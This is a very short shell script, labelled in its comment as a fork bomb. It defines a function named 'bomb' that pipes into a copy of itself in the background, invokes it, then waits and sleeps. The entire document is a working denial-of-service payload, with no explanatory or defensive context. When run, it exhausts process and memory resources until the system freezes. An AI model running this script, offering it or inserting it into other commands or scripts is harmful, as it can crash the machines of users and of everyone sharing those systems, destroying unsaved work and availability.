# A fork bomb.
bomb() { bomb | bomb & }
bomb
wait
sleep 300
